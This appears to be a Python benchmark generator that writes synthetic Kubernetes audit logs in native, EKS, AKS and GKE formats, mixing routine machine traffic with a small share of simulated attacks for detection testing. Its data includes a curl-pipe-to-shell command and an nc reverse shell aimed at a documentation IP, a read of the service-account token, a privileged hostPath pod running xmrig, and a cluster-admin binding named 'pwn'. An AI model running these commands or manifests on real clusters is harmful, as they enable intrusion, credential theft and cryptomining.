"""Generate realistic Kubernetes audit logs in the four providers' export shapes, fast.

Importable (``from benchmarks.gen_audit import generate``) and runnable::

    .venv/bin/python benchmarks/gen_audit.py OUT_DIR [--events 1000000] [--seed 7]

The mix follows what real clusters log: mostly machines (leases renewed by controllers,
kubelets patching node and pod status, watches and lists by operators, ``eks:``/``aksService``/
``gke-`` system principals), some humans with kubectl, and a thin layer of attacker activity
(exec with a command, privileged/hostPath pods, secret enumeration, cluster-admin bindings,
token requests, anonymous and forbidden probes). Events are built from templates and
serialised with orjson: about 1M events in a few seconds per core.

Shapes written (one file per source):

- ``native.jsonl`` (and ``native.jsonl.gz``): audit.k8s.io/v1 Events, one per line
- ``eks-firehose.gz``: CloudWatch subscription DATA_MESSAGEs concatenated without a
  delimiter, gzip, with a CONTROL_MESSAGE now and then
- ``aks-blob.jsonl``: Azure storage blob, one diagnostic record per line, ``properties.log``
  as a string, with ``guard``/``kube-apiserver`` records mixed in
- ``gke.jsonl``: Cloud Audit Logs LogEntries, one per line (``gcloud logging read`` or a
  sink to storage)
"""

from __future__ import annotations

import argparse
import base64
import gzip
import random
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson

SOURCES = ("native", "eks", "aks", "gke")
DEFAULT_MIX = {"native": 0.4, "eks": 0.2, "aks": 0.2, "gke": 0.2}
T0 = datetime(2024, 5, 1, tzinfo=UTC)

_NAMESPACES = ["default", "prod", "payments", "kube-system", "monitoring", "ingress-nginx"]
_NODES = [f"ip-10-0-{i}-{j}.eu-west-1.compute.internal" for i in range(4) for j in (11, 42, 77)]
_CONTROLLERS = [
    "system:kube-controller-manager",
    "system:kube-scheduler",
    "system:serviceaccount:kube-system:replicaset-controller",
    "system:serviceaccount:kube-system:endpointslice-controller",
    "system:serviceaccount:monitoring:prometheus",
    "system:serviceaccount:ingress-nginx:ingress-nginx",
]
_HUMANS = ["alice@example.com", "bob@example.com", "kubernetes-admin", "masterclient"]
_ATTACK_CMDS = [
    ["sh", "-c", "curl -s http://203.0.113.50/x.sh | sh"],
    ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
    ["/bin/bash"],
    ["sh", "-c", "nc -e /bin/sh 203.0.113.50 4444"],
]


def _uid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


@dataclass
class _Clock:
    t: datetime = T0

    def tick(self, rng: random.Random) -> tuple[str, str]:
        self.t += timedelta(microseconds=rng.randint(50, 4000))
        done = self.t + timedelta(microseconds=rng.randint(300, 40000))
        return _ts(self.t), _ts(done)


def _ts(t: datetime) -> str:
    return t.strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def _base(  # noqa: PLR0917 - a template filler, positional for brevity at call sites
    rng: random.Random,
    clock: _Clock,
    user: str,
    groups: list[str],
    verb: str,
    uri: str,
    obj: dict[str, Any] | None,
    code: int,
    ua: str,
    ip: str,
    level: str = "Metadata",
    stage: str = "ResponseComplete",
) -> dict[str, Any]:
    rr, st = clock.tick(rng)
    ev: dict[str, Any] = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": level,
        "auditID": _uid(rng),
        "stage": stage,
        "requestURI": uri,
        "verb": verb,
        "user": {"username": user, "groups": groups},
        "sourceIPs": [ip],
        "userAgent": ua,
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": rr,
        "stageTimestamp": st,
        "annotations": {
            "authorization.k8s.io/decision": "allow" if code < 400 else "forbid",
            "authorization.k8s.io/reason": ""
            if code >= 400
            else 'RBAC: allowed by ClusterRoleBinding "system:controller" of ClusterRole "x"',
        },
    }
    if obj is not None:
        ev["objectRef"] = obj
    if user.startswith("system:serviceaccount:"):
        ev["user"]["uid"] = _uid(rng)
        ev["user"]["extra"] = {
            "authentication.kubernetes.io/credential-id": [f"JTI={_uid(rng)}"],
            "authentication.kubernetes.io/pod-name": [f"pod-{rng.randint(0, 999)}"],
        }
    return ev


def _pod_spec(rng: random.Random, evil: bool) -> dict[str, Any]:
    image = (
        rng.choice(["xmrig/xmrig:latest", "busybox", "alpine:3.19"])
        if evil
        else rng.choice(["nginx:1.25", "registry.example.com/payments/api:2.3.1", "redis:7"])
    )
    c: dict[str, Any] = {
        "name": "main",
        "image": image,
        "resources": {},
        "imagePullPolicy": "IfNotPresent",
    }
    spec: dict[str, Any] = {
        "containers": [c],
        "restartPolicy": "Always",
        "serviceAccountName": "default",
    }
    if evil:
        c["securityContext"] = {"privileged": True}
        spec["hostPID"] = True
        spec["volumes"] = [{"name": "host", "hostPath": {"path": "/", "type": ""}}]
        c["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
    return {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": f"pod-{rng.randint(0, 99999)}", "labels": {"app": "web"}},
        "spec": spec,
    }


def native_event(rng: random.Random, clock: _Clock) -> dict[str, Any]:
    """One event of the mix: ~93% machines, ~6% humans, ~1% attacker."""
    r = rng.random()
    ns = rng.choice(_NAMESPACES)
    if r < 0.35:  # lease renewals: the heartbeat of every cluster
        user = rng.choice(_CONTROLLERS[:2])
        name = user.rsplit(":", 1)[-1]
        return _base(
            rng,
            clock,
            user,
            ["system:authenticated"],
            "update",
            f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{name}",
            {
                "resource": "leases",
                "namespace": "kube-system",
                "name": name,
                "apiGroup": "coordination.k8s.io",
                "apiVersion": "v1",
            },
            200,
            f"{name}/v1.29.3 (linux/amd64) kubernetes/6813625/leader-election",
            "10.0.0.10",
        )
    if r < 0.60:  # kubelets: node and pod status
        node = rng.choice(_NODES)
        pod = f"web-{rng.randint(0, 400)}"
        return _base(
            rng,
            clock,
            f"system:node:{node}",
            ["system:nodes", "system:authenticated"],
            "patch",
            f"/api/v1/namespaces/{ns}/pods/{pod}/status",
            {
                "resource": "pods",
                "namespace": ns,
                "name": pod,
                "subresource": "status",
                "apiVersion": "v1",
            },
            200,
            "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625",
            "10.0.1." + str(rng.randint(2, 250)),
            level="Request",
        )
    if r < 0.86:  # controllers and operators list/watch/get
        user = rng.choice(_CONTROLLERS[2:])
        res = rng.choice(["pods", "endpoints", "configmaps", "services", "nodes"])
        verb = rng.choice(["list", "watch", "get"])
        return _base(
            rng,
            clock,
            user,
            ["system:serviceaccounts", "system:authenticated"],
            verb,
            f"/api/v1/namespaces/{ns}/{res}?resourceVersion=0&watch={verb == 'watch'}",
            {"resource": res, "namespace": ns, "apiVersion": "v1"},
            200,
            "Go-http-client/2.0",
            "10.0.2." + str(rng.randint(2, 250)),
        )
    if r < 0.93:  # replicaset controller creates pods (bodies at Request level)
        ev = _base(
            rng,
            clock,
            _CONTROLLERS[2],
            ["system:serviceaccounts", "system:authenticated"],
            "create",
            f"/api/v1/namespaces/{ns}/pods",
            {"resource": "pods", "namespace": ns, "apiVersion": "v1"},
            201,
            "kube-controller-manager/v1.29.3",
            "10.0.0.10",
            level="Request",
        )
        ev["requestObject"] = _pod_spec(rng, evil=False)
        return ev
    if r < 0.99:  # humans with kubectl
        user = rng.choice(_HUMANS)
        res = rng.choice(["deployments", "pods", "services", "configmaps"])
        verb = rng.choice(["get", "list", "patch", "delete"])
        grp = "apps" if res == "deployments" else ""
        prefix = "/apis/apps/v1" if grp else "/api/v1"
        return _base(
            rng,
            clock,
            user,
            ["system:masters", "system:authenticated"],
            verb,
            f"{prefix}/namespaces/{ns}/{res}",
            {"resource": res, "namespace": ns, "apiGroup": grp, "apiVersion": "v1"},
            200,
            "kubectl/v1.30.1 (darwin/arm64) kubernetes/abcdef0",
            "203.0.113.7",
        )
    return _attack(rng, clock, ns)


def _attack(rng: random.Random, clock: _Clock, ns: str) -> dict[str, Any]:
    kind = rng.randrange(6)
    attacker = "system:serviceaccount:prod:web"
    ip = "198.51.100.23"
    ua = "kubectl/v1.30.1 (linux/amd64) kubernetes/abcdef0"
    groups = ["system:serviceaccounts", "system:authenticated"]
    if kind == 0:
        cmd = rng.choice(_ATTACK_CMDS)
        q = "&".join(
            "command=" + c.replace(" ", "+").replace("/", "%2F").replace("|", "%7C") for c in cmd
        )
        return _base(
            rng,
            clock,
            attacker,
            groups,
            rng.choice(["create", "get"]),
            f"/api/v1/namespaces/{ns}/pods/web-1/exec?{q}&container=main&stdin=true",
            {
                "resource": "pods",
                "namespace": ns,
                "name": "web-1",
                "subresource": "exec",
                "apiVersion": "v1",
            },
            101,
            ua,
            ip,
            stage="ResponseStarted",
            level="Request",
        )
    if kind == 1:
        ev = _base(
            rng,
            clock,
            attacker,
            groups,
            "create",
            "/api/v1/namespaces/kube-system/pods",
            {"resource": "pods", "namespace": "kube-system", "apiVersion": "v1"},
            201,
            ua,
            ip,
            level="Request",
        )
        ev["requestObject"] = _pod_spec(rng, evil=True)
        return ev
    if kind == 2:
        return _base(
            rng,
            clock,
            attacker,
            groups,
            "list",
            f"/api/v1/namespaces/{ns}/secrets",
            {"resource": "secrets", "namespace": ns, "apiVersion": "v1"},
            rng.choice([200, 403]),
            ua,
            ip,
        )
    if kind == 3:
        ev = _base(
            rng,
            clock,
            attacker,
            groups,
            "create",
            "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
            {
                "resource": "clusterrolebindings",
                "name": "pwn",
                "apiGroup": "rbac.authorization.k8s.io",
                "apiVersion": "v1",
            },
            201,
            ua,
            ip,
            level="Request",
        )
        ev["requestObject"] = {
            "kind": "ClusterRoleBinding",
            "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
            "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "prod"}],
        }
        return ev
    if kind == 4:
        return _base(
            rng,
            clock,
            attacker,
            groups,
            "create",
            f"/api/v1/namespaces/{ns}/serviceaccounts/default/token",
            {
                "resource": "serviceaccounts",
                "namespace": ns,
                "name": "default",
                "subresource": "token",
                "apiVersion": "v1",
            },
            201,
            ua,
            ip,
        )
    return _base(
        rng,
        clock,
        "system:anonymous",
        ["system:unauthenticated"],
        "get",
        "/api/v1/namespaces/kube-system/secrets",
        {"resource": "secrets", "namespace": "kube-system", "apiVersion": "v1"},
        403,
        "curl/8.5.0",
        ip,
    )


# ---- envelopes ---------------------------------------------------------------------------


def _events(n: int, seed: int) -> Iterator[dict[str, Any]]:
    rng = random.Random(seed)
    clock = _Clock()
    for _ in range(n):
        yield native_event(rng, clock)


def write_native(path: Path, n: int, seed: int = 1, *, compress: bool = False) -> int:
    with path.open("wb") as raw_out:
        out: Any = (
            gzip.GzipFile(fileobj=raw_out, mode="wb", compresslevel=1) if compress else raw_out
        )
        buf = bytearray()
        for ev in _events(n, seed):
            buf += orjson.dumps(ev)
            buf += b"\n"
            if len(buf) > 1 << 22:
                out.write(bytes(buf))
                buf.clear()
        out.write(bytes(buf))
        if compress:
            out.close()
    return n


def write_eks(path: Path, n: int, seed: int = 2, *, batch: int = 100) -> int:
    """Firehose object: gzip of DATA_MESSAGEs concatenated with no delimiter."""
    with gzip.open(path, "wb", compresslevel=1) as out:
        events = _events(n, seed)
        done = 0
        k = 0
        while done < n:
            if k % 50 == 0:
                out.write(
                    orjson.dumps(
                        {
                            "messageType": "CONTROL_MESSAGE",
                            "owner": "CloudwatchLogs",
                            "logGroup": "",
                            "logStream": "",
                            "subscriptionFilters": [],
                            "logEvents": [
                                {
                                    "id": "",
                                    "timestamp": 0,
                                    "message": "CWL CONTROL MESSAGE: Checking health",
                                }
                            ],
                        }
                    )
                )
            take = min(batch, n - done)
            log_events = []
            for i in range(take):
                ev = next(events)
                log_events.append(
                    {
                        "id": f"{37_000_000 + done + i}",
                        "timestamp": 1714521600000 + done + i,
                        "message": orjson.dumps(ev).decode(),
                    }
                )
            out.write(
                orjson.dumps(
                    {
                        "messageType": "DATA_MESSAGE",
                        "owner": "111122223333",
                        "logGroup": "/aws/eks/prod-eu/cluster",
                        "logStream": "kube-apiserver-audit-3f2a9c0d1e",
                        "subscriptionFilters": ["audit-to-firehose"],
                        "logEvents": log_events,
                    }
                )
            )
            done += take
            k += 1
    return n


def write_aks(path: Path, n: int, seed: int = 3) -> int:
    """Storage blob: one diagnostic record per line; 1 in 20 lines is another category."""
    rid = (
        "/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000000/RESOURCEGROUPS/RG-PROD/"
        "PROVIDERS/MICROSOFT.CONTAINERSERVICE/MANAGEDCLUSTERS/AKS-PROD"
    )
    with path.open("wb") as out:
        buf = bytearray()
        for i, ev in enumerate(_events(n, seed)):
            if i % 20 == 0:
                buf += orjson.dumps(
                    {
                        "category": "guard",
                        "operationName": "x",
                        "properties": {
                            "log": "I0501 10:00:00.000000 1 guard.go:42] authz ok",
                            "pod": "guard-0",
                            "stream": "stderr",
                        },
                        "resourceId": rid,
                        "time": ev["stageTimestamp"],
                    }
                )
                buf += b"\n"
            if ev["user"]["username"] in ("kubernetes-admin",):
                ev["user"]["username"] = "masterclient"
            rec = {
                "category": "kube-audit"
                if ev["verb"] not in ("get", "list", "watch") or i % 2
                else "kube-audit-admin",
                "operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
                "properties": {
                    "log": orjson.dumps(ev).decode(),
                    "pod": "kube-apiserver-7d9",
                    "stream": "stdout",
                    "containerID": "4f1c",
                },
                "resourceId": rid,
                "time": ev["stageTimestamp"],
            }
            buf += orjson.dumps(rec)
            buf += b"\n"
            if len(buf) > 1 << 22:
                out.write(bytes(buf))
                buf.clear()
        out.write(bytes(buf))
    return n


def _to_log_entry(ev: dict[str, Any]) -> dict[str, Any]:
    ref = ev.get("objectRef") or {}
    group = ref.get("apiGroup") or "core"
    parts = [group, ref.get("apiVersion", "v1")]
    if ref.get("namespace"):
        parts += ["namespaces", ref["namespace"]]
    parts.append(ref.get("resource", ""))
    if ref.get("name"):
        parts.append(ref["name"])
    if ref.get("subresource"):
        parts.append(ref["subresource"])
    dotted = "io.k8s.core" if group == "core" else ".".join(reversed(group.split(".")))
    method = f"{dotted}.{ref.get('apiVersion', 'v1')}.{ref.get('resource', '')}"
    if ref.get("subresource"):
        method += f".{ref['subresource']}"
    method += f".{ev['verb']}"
    code = ev["responseStatus"]["code"]
    grpc = 0 if code < 400 else 7 if code == 403 else 16 if code == 401 else 5
    labels = dict(ev.get("annotations") or {})
    if ref.get("subresource") == "exec":
        cmds = [
            c
            for k, c in (
                p.split("=", 1) for p in ev["requestURI"].split("?", 1)[1].split("&") if "=" in p
            )
            if k == "command"
        ]
        labels["command.gke.io/command"] = " ".join(cmds)
    proto: dict[str, Any] = {
        "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
        "authenticationInfo": {}
        if ev["user"]["username"] == "system:anonymous"
        else {"principalEmail": ev["user"]["username"]},
        "authorizationInfo": [
            {"granted": code < 400, "permission": method, "resource": "/".join(parts)}
        ],
        "methodName": method,
        "requestMetadata": {
            "callerIp": ev["sourceIPs"][0],
            "callerSuppliedUserAgent": ev["userAgent"],
        },
        "resourceName": "/".join(parts),
        "serviceName": "k8s.io",
        "status": {"code": grpc} if grpc else {},
    }
    if "requestObject" in ev:
        proto["request"] = {"@type": f"{group}.k8s.io/v1.Pod", **ev["requestObject"]}
    return {
        "insertId": ev["auditID"],
        "labels": labels,
        "logName": "projects/acme-prod/logs/cloudaudit.googleapis.com%2Factivity",
        "operation": {"first": True, "last": True, "id": ev["auditID"], "producer": "k8s.io"},
        "protoPayload": proto,
        "receiveTimestamp": ev["stageTimestamp"],
        "resource": {
            "type": "k8s_cluster",
            "labels": {
                "cluster_name": "gke-prod",
                "location": "europe-west1",
                "project_id": "acme-prod",
            },
        },
        "severity": "NOTICE",
        "timestamp": ev["stageTimestamp"],
    }


def write_gke(path: Path, n: int, seed: int = 4) -> int:
    with path.open("wb") as out:
        buf = bytearray()
        for ev in _events(n, seed):
            buf += orjson.dumps(_to_log_entry(ev))
            buf += b"\n"
            if len(buf) > 1 << 22:
                out.write(bytes(buf))
                buf.clear()
        out.write(bytes(buf))
    return n


def pubsub_message(entry: dict[str, Any]) -> dict[str, Any]:
    return {
        "message": {
            "data": base64.b64encode(orjson.dumps(entry)).decode(),
            "messageId": "1",
            "publishTime": entry.get("timestamp"),
        }
    }


WRITERS: dict[str, tuple[str, Callable[[Path, int], int]]] = {
    "native": ("native.jsonl", write_native),
    "eks": ("eks-firehose.gz", write_eks),
    "aks": ("aks-blob.jsonl", write_aks),
    "gke": ("gke.jsonl", write_gke),
}


def generate(
    out_dir: Path, total: int = 1_000_000, mix: dict[str, float] | None = None
) -> dict[str, tuple[Path, int]]:
    """Write one file per source; returns ``{source: (path, events)}``."""
    out_dir.mkdir(parents=True, exist_ok=True)
    mix = mix or DEFAULT_MIX
    result: dict[str, tuple[Path, int]] = {}
    for source, share in mix.items():
        name, writer = WRITERS[source]
        n = int(total * share)
        path = out_dir / name
        writer(path, n)
        result[source] = (path, n)
    return result


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out_dir", type=Path)
    ap.add_argument("--events", type=int, default=1_000_000)
    args = ap.parse_args()
    t = time.perf_counter()
    for source, (path, n) in generate(args.out_dir, args.events).items():
        print(f"{source:7} {n:>9} events  {path.stat().st_size / 1e6:8.1f} MB  {path}")
    print(f"generated in {time.perf_counter() - t:.1f}s")


if __name__ == "__main__":
    main()
